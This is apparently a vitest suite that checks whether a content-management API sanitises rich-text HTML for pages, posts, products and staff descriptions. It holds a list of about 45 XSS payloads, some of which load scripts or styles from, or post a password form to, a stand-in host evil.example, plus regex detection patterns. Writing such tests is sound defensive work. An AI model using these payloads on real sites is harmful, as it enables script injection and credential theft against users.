import { beforeAll, describe, expect, it } from 'vitest'
import { adminToken, api, unique } from '../support/api'
import { form, newCategory } from '../support/content'

/** Payloads sent straight to the API, as an attacker with an editor account (or a stolen token) would. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<a href="javascript:alert(1)">klik</a>',
  '<a href="java\u0000script:alert(1)">klik</a>',
  '<a href="&#x6A;avascript:alert(1)">klik</a>',
  '<a href=" javascript:alert(1)">klik</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klik</a>',
  '<a href="vbscript:msgbox(1)">klik</a>',
  '<a href="https://ok.example" onclick="alert(1)">klik</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<form action="https://evil.example"><input type=password name=p><button>Login</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '"><script>alert(1)</script>',
  '<<script>script>alert(1)<</script>/script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '<a href="https://ok.example" target="_self">tabnabbing</a>',
  '<li data-list="bullet" onmouseover="alert(1)">x</li>',
  '<span class="ql-ui" contenteditable onblur=alert(1)>x</span>',
]

/** Judged with plain patterns, independently of the sanitiser's own code. */
function problems(html: string): string[] {
  const found: string[] = []
  const checks: [string, RegExp][] = [
    ['dangerous element', /<\s*\/?\s*(script|iframe|frame|object|embed|form|input|button|svg|math|style|link|meta|base|body|details|video|source|marquee|textarea|select|template|noscript|xmp)\b/i],
    ['event handler', /<[^>]*\son[a-z]+\s*=/i],
    ['style attribute', /<[^>]*\sstyle\s*=/i],
    ['script URL', /(href|src|action|formaction|data)\s*=\s*["']?\s*(javascript|vbscript|data:text)/i],
    ['srcdoc', /<[^>]*\ssrcdoc\s*=/i],
    ['contenteditable', /<[^>]*\scontenteditable/i],
  ]
  for (const [label, pattern] of checks) if (pattern.test(html)) found.push(label)
  // Any link that survives opens in a new tab without a handle on our window.
  for (const anchor of html.match(/<a\b[^>]*>/gi) ?? []) {
    if (!/target="_blank"/.test(anchor) || !/rel="noopener noreferrer nofollow"/.test(anchor)) found.push(`unsafe link ${anchor}`)
  }
  return found
}

let token: string
let categoryId: number

beforeAll(async () => {
  token = await adminToken()
  categoryId = (await newCategory()).id
})

describe('rich text is stored harmless', () => {
  it('has a corpus of at least 30 payloads', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(30)
    // The judge can fail: it flags at least 30 of the raw payloads (the rest hide behind entities or NUL bytes).
    expect(PAYLOADS.filter((payload) => problems(payload).length > 0).length).toBeGreaterThanOrEqual(30)
  })

  it.each(PAYLOADS.map((payload, i) => [i, payload] as const))('page content, payload %i', async (_i, payload) => {
    const created = await api('POST', '/api/admin/pages', { token, json: { title: unique('XSS '), content: `<p>aman</p>${payload}` } })
    expect(created.status).toBe(201)
    expect(problems(created.body.data.content)).toEqual([])
    expect(created.body.data.content).toContain('<p>aman</p>')
    const stored = await api('GET', `/api/public/pages/${created.body.data.slug}`)
    expect(stored.body.data.content).toBe(created.body.data.content)
  })

  it('post content, create and update, multipart and JSON', async () => {
    for (const payload of PAYLOADS) {
      const created = await api('POST', '/api/admin/posts', {
        token,
        form: form({ title: unique('XSS '), content: `<p>aman</p>${payload}`, category_id: categoryId }),
      })
      expect(created.status, payload).toBe(201)
      expect(problems(created.body.data.content), payload).toEqual([])
      const updated = await api('PUT', `/api/admin/posts/${created.body.data.id}`, {
        token,
        json: { title: created.body.data.title, content: `<p>lagi</p>${payload}`, category_id: categoryId },
      })
      expect(updated.status, payload).toBe(200)
      expect(problems(updated.body.data.content), payload).toEqual([])
      const detail = await api('GET', `/api/public/posts/${created.body.data.slug}`)
      expect(problems(detail.body.data.content), payload).toEqual([])
    }
  })

  it('product content and aparatur description', async () => {
    const all = PAYLOADS.join('\n')
    const product = await api('POST', '/api/admin/products', {
      token,
      form: form({ title: unique('XSS '), content: `<p>aman</p>${all}`, owner: 'a', price: 1, phone: '1', address: 'a' }),
    })
    expect(product.status).toBe(201)
    expect(problems(product.body.data.content)).toEqual([])
    const person = await api('POST', '/api/admin/aparaturs', { token, form: form({ name: 'a', position: 'b', description: all }) })
    expect(person.status).toBe(201)
    expect(problems(person.body.data.description)).toEqual([])
    const updated = await api('PUT', `/api/admin/aparaturs/${person.body.data.id}`, { token, json: { name: 'a', position: 'b', description: all } })
    expect(problems(updated.body.data.description)).toEqual([])
    const detail = await api('GET', `/api/public/aparaturs/${person.body.data.id}`)
    expect(problems(detail.body.data.description)).toEqual([])
  })

  it('content that is nothing but a payload counts as empty', async () => {
    const result = await api('POST', '/api/admin/pages', { token, json: { title: 'x', content: '<script>alert(1)</script><style>p{}</style>' } })
    expect(result.status).toBe(422)
    expect(result.body.errors).toEqual({ Content: 'Content is required' })
  })

  it('a title with markup is kept as text and never reaches the slug', async () => {
    const title = `<script>alert(1)</script> Judul ${unique('t')}`
    const result = await api('POST', '/api/admin/pages', { token, json: { title, content: '<p>x</p>' } })
    expect(result.status).toBe(201)
    expect(result.body.data.title).toBe(title)
    expect(result.body.data.slug).toMatch(/^[a-z0-9-]+$/)
    expect(result.headers.get('content-type')).toContain('application/json')
  })
})
